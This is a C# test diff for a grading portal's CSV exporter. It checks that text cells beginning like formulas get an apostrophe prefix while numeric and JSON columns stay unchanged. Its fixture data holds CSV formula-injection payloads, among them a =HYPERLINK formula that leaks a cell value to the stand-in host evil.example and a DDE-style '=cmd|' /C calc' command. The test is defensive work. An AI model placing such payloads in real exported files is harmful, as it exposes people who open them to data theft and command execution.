@@ -1,6 +1,9 @@
 using System.Net;
 using System.Text;
 using System.Text.Json.Nodes;
+using GradingPortal.Domain.Grading;
+using GradingPortal.Domain.Persistence;
+using Microsoft.Extensions.DependencyInjection;
 
 namespace GradingPortal.Export.Tests;
 
@@ -88,6 +91,62 @@ public sealed class ExportCsvTests(ExportFactory api) : IAsyncLifetime
         rows.Select(r => (r["model_grade_id"], r["model_points"], r["human_points"], r["human_basis"], r["cursor"]))
             .ShouldBe(pairs.Select(p => ((string)p["modelGradeId"]!, p["modelPoints"]!.ToJsonString(), p["humanPoints"]?.ToJsonString() ?? "",
                 (string)p["humanBasis"]!, (string)p["cursor"]!)));
+    }
+
+    [Fact]
+    public async Task Csv_TextCellsStartingLikeFormulas_GetAnApostropheWhileNumbersStayNumbers()
+    {
+        var admin = _data.Admin;
+        var problem = await admin.PostJsonAsync($"/api/projects/{_data.ProjectId}/problems", new
+        {
+            title = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"open\")", statement = "S", maxPoints = 7, externalId = "+cmd",
+        });
+        var problemId = problem.GetProperty("id").GetGuid();
+        async Task<Guid> AddSolution(string text, string? author, string externalId) =>
+            (await admin.PostJsonAsync($"/api/problems/{problemId}/solutions", new { text, author, externalId })).GetProperty("id").GetGuid();
+        var cases = new (string Text, string? Author, string ExternalId)[]
+        {
+            ("=1+1", "@SUM(A1:A9)", "-1.5"),
+            ("\t=cmd|' /C calc'!A0", "'quoted", "plain"),
+            ("\r=2", "-model", "@x"),
+            ("'already, an apostrophe", null, "'x"),
+            ("Fine text, -1 inside", "model-x", "a-1"),
+        };
+        var ids = new List<Guid>();
+        foreach (var (text, author, externalId) in cases)
+        {
+            ids.Add(await AddSolution(text, author, externalId));
+        }
+        await admin.PostJsonAsync($"/api/solutions/{ids[0]}/human-grades", new { points = 2.5m });
+        using (var scope = api.Services.CreateScope())
+        {
+            var db = scope.ServiceProvider.GetRequiredService<GradingDbContext>();
+            db.ModelGrades.Add(ModelGrade.CreateValid(_data.ProjectId, ids[0], "=1+1", 7, "=source", "+model", null, null, 1.5m, [], [], "", "", "1.5",
+                "{}", "-ext", DateTimeOffset.UtcNow));
+            await db.SaveChangesAsync();
+        }
+
+        var rows = (await CsvAsync("format=csv", s_recordColumns)).Where(r => ids.Contains(Guid.Parse(r["solution_id"])))
+            .OrderBy(r => ids.IndexOf(Guid.Parse(r["solution_id"]))).ToList();
+
+        rows.Select(r => (r["text"], r["author"], r["solution_external_id"])).ShouldBe(
+        [
+            ("'=1+1", "'@SUM(A1:A9)", "'-1.5"),
+            ("'\t=cmd|' /C calc'!A0", "''quoted", "plain"),
+            ("'\r=2", "'-model", "'@x"),
+            ("''already, an apostrophe", "", "''x"),
+            ("Fine text, -1 inside", "model-x", "a-1"),
+        ]);
+        rows.ShouldAllBe(r => r["problem_title"] == "'=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"open\")" && r["problem_external_id"] == "'+cmd");
+        // Dropping the first apostrophe of a text cell gives the text back exactly.
+        rows.Select(r => r["text"].StartsWith('\'') ? r["text"][1..] : r["text"]).ShouldBe(cases.Select(c => c.Text));
+        // The exporter's own numbers and the JSON columns are not touched.
+        rows[0]["human_points"].ShouldBe("2.5");
+        rows[0]["max_points"].ShouldBe("7");
+        JsonNode.Parse(rows[0]["problem_json"])!["title"]!.GetValue<string>().ShouldStartWith("=HYPERLINK");
+
+        var pair = (await CsvAsync("format=csv&flavor=pairs", s_pairColumns)).Single(r => r["solution_id"] == ids[0].ToString());
+        (pair["source"], pair["model"], pair["model_points"], pair["human_points"]).ShouldBe(("'=source", "'+model", "1.5", "2.5"));
     }
 
     [Fact]
